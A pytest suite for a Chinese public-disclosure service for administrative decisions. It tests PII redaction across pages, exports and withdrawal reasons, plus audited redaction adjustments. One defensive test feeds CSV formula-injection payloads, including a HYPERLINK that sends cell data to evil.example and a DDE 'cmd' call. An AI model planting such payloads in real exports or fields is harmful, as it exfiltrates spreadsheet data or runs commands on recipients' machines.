"""One redaction pass over everything the public sees: the 双公示 fields and
exports repeat the page, withdrawal reasons are redacted, a CSV cannot run a
formula, and the publisher's adjustments in the preview are exactly what is
published (and audited)."""
from __future__ import annotations

import csv
import io

from tests.conftest import auth
from tests.search.conftest import LICENSE, PENALTY, PERSON_PENALTY, decision, publish
from tests.search.test_api import assert_problem, search


def _export_rows(client, kind: str) -> list[dict]:
    text = client.get("/v1/export", query_string={"kind": kind, "format": "csv"}).get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_double_publicity_fields_repeat_the_page_word_for_word(sqlite_search):
    _, client = sqlite_search
    summary = ("经查，当事人雇用郑晓三、王五二人在店内销售过期食品，证人李小红（电话13912345678）证明属实，"
               "执法人员于现场张贴了责令改正通知书。")
    body = decision(PENALTY, summary=summary, violation_type="销售过期食品，举报人赵敏电话13987654321")
    assert publish(client, body).status_code == 201
    page = client.get(f"/v1/decisions/{PENALTY['number']}").get_json()
    fields = client.get("/v1/export", query_string={"kind": "penalty"}).get_json()[0]["fields"]
    row = _export_rows(client, "penalty")[0]
    assert fields["违法事实"] == page["summary"] == row["违法事实"] == page["disclosure"]["违法事实"]
    assert "13912345678" not in page["summary"] and "李小红" not in page["summary"]
    assert "13987654321" not in fields["违法行为类型"] and "赵敏" not in fields["违法行为类型"]
    assert fields["违法行为类型"] == row["违法行为类型"]
    # Redacted once: a second pass would read 郑某三 again; the export keeps what the page shows.
    assert page["summary"].count("某") == fields["违法事实"].count("某")


def test_public_values_of_the_decision_stay(sqlite_search):
    _, client = sqlite_search
    body = decision(LICENSE, agency_credit_code="11210300MB1234567X",
                    text=LICENSE["text"] + "许可证编号JY22103020012345，机关统一社会信用代码11210300MB1234567X。")
    assert publish(client, body).status_code == 201
    page = client.get(f"/v1/decisions/{LICENSE['number']}").get_json()
    assert "JY22103020012345" in page["text"] and "11210300MB1234567X" in page["text"]
    assert page["disclosure"]["许可机关统一社会信用代码"] == "11210300MB1234567X"


def test_withdrawal_reason_is_redacted_everywhere_it_is_shown(sqlite_search):
    _, client = sqlite_search
    publish(client, PERSON_PENALTY)
    number = PERSON_PENALTY["number"]
    reason = "经复议撤销，代理律师孙立平（电话13811112222，身份证210302199001011234）提出申请。"
    resp = client.delete(f"/v1/decisions/{number}", json={"reason": reason}, headers=auth("publisher"))
    assert resp.status_code == 200
    secrets = ["孙立平", "13811112222", "210302199001011234"]
    year = PERSON_PENALTY["decided_on"][:4]
    shown = [resp.get_data(as_text=True),
             client.get(f"/v1/decisions/{number}").get_data(as_text=True),
             client.get(f"/decisions/{number}").get_data(as_text=True),
             client.get("/v1/stats", query_string={"year": year}).get_data(as_text=True),
             client.get("/stats", query_string={"year": year}).get_data(as_text=True)]
    assert "经复议撤销" in shown[1]
    for text in shown:
        for secret in secrets:
            assert secret not in text


def test_csv_cells_never_start_a_formula(sqlite_search):
    _, client = sqlite_search
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    body = decision(PENALTY, party={**PENALTY["party"], "name": hostile}, summary="@SUM(1+1)*cmd|' /C calc'!A0",
                    violation_type="+1+1", revoked_license="-2+3", content="\t=1+2")
    assert publish(client, body).status_code == 201
    text = client.get("/v1/export", query_string={"kind": "penalty", "format": "csv"}).get_data(as_text=True)
    assert text.startswith("\ufeff")
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    row = _export_rows(client, "penalty")[0]
    assert row["相对人名称"] == "'" + hostile              # shown as text, not lost
    assert client.get("/v1/decisions/" + PENALTY["number"]).get_json()["party"] == hostile


def test_preview_adjustments_are_published_exactly_and_audited(sqlite_search):
    _, client = sqlite_search
    body = decision(PENALTY, summary="当事人在经营场所内销售过期食品，顾客反映店内另有暗室，货源来自供货人老马。")
    preview = client.post("/v1/decisions/preview", json=body, headers=auth("publisher")).get_json()
    assert preview["publishable"] and len(preview["digest"]) == 64
    nickname = body["summary"].index("老马")
    adjust = {"hide": [{"field": "summary", "start": nickname, "end": nickname + 2, "rule": "person_name",
                        "reason": "供货人的称呼可识别个人"}]}
    adjusted = client.post("/v1/decisions/preview", json={**body, "redaction": adjust},
                           headers=auth("publisher")).get_json()
    spans = adjusted["fields"]["summary"]["spans"]
    assert any(s["source"] == "publisher" and s["replacement"] == "老某" for s in spans)
    assert "老马" not in adjusted["fields"]["summary"]["text"]
    # The digest of the plain preview does not match the adjusted result: refused, nothing published.
    stale = publish(client, {**body, "redaction": {**adjust, "digest": preview["digest"]}})
    assert_problem(stale, 409, "redaction/digest")
    assert search(client)["total"] == 0
    assert publish(client, {**body, "redaction": {**adjust, "digest": adjusted["digest"]}}).status_code == 201
    page = client.get(f"/v1/decisions/{PENALTY['number']}").get_json()
    assert page["summary"] == adjusted["fields"]["summary"]["text"]
    entry = client.get("/v1/audit", headers=auth("admin")).get_json()["entries"][-1]
    assert entry["details"]["redaction_digest"] == adjusted["digest"]
    assert entry["details"]["adjustments"][0]["action"] == "hide"


def test_keeping_a_hidden_span_needs_a_reason_and_a_span_the_rules_found(sqlite_search):
    _, client = sqlite_search
    body = decision(PENALTY, summary="当事人未按规定公示，经理刘洋到场配合调查。")
    preview = client.post("/v1/decisions/preview", json=body, headers=auth("publisher")).get_json()
    span = next(s for s in preview["fields"]["summary"]["spans"] if s["rule"] == "person_name")
    keep = {"field": "summary", "start": span["start"], "end": span["end"]}
    no_reason = client.post("/v1/decisions/preview", json={**body, "redaction": {"keep": [keep]}},
                            headers=auth("publisher"))
    assert_problem(no_reason, 422)
    wrong = client.post("/v1/decisions/preview",
                        json={**body, "redaction": {"keep": [{**keep, "start": 0, "reason": "公开的负责人"}]}},
                        headers=auth("publisher"))
    assert_problem(wrong, 422, "redaction/keep/0")
    kept = {"keep": [{**keep, "reason": "该经理系企业公开登记的负责人"}]}
    result = client.post("/v1/decisions/preview", json={**body, "redaction": kept},
                         headers=auth("publisher")).get_json()
    assert "刘洋" in result["fields"]["summary"]["text"]
    assert publish(client, {**body, "redaction": {**kept, "digest": result["digest"]}}).status_code == 201
    entry = client.get("/v1/audit", headers=auth("admin")).get_json()["entries"][-1]
    assert entry["details"]["adjustments"] == [{"action": "keep", "field": "summary", "start": span["start"],
                                                "end": span["end"], "rule": "person_name", "shown": "刘洋",
                                                "reason": "该经理系企业公开登记的负责人"}]


def test_adjustments_out_of_range_are_named(sqlite_search):
    _, client = sqlite_search
    bad = {"hide": [{"field": "summary", "start": 5, "end": 5000, "rule": "person_name"},
                    {"field": "nowhere", "start": 0, "end": 1, "rule": "mobile"}]}
    resp = client.post("/v1/decisions/preview", json={**PENALTY, "redaction": bad}, headers=auth("publisher"))
    body = assert_problem(resp, 422, "redaction/hide/0")
    assert "redaction/hide/1/field" in [e["path"] for e in body["errors"]]
    assert_problem(client.post("/v1/decisions/preview", json={**PENALTY, "redaction": {"hide": [
        {"field": "summary", "start": 0, "end": 2, "rule": "no-such-rule"}]}}, headers=auth("publisher")), 422)


def test_adults_and_minors_other_than_the_party_do_not_stop_publication(sqlite_search):
    _, client = sqlite_search
    summary = ("当事人张伟（46周岁）无证销售散装白酒，其雇用的李某（16岁）在店内帮工；"
               "当事人已满十八周岁。")
    assert publish(client, decision(PERSON_PENALTY, summary=summary)).status_code == 201
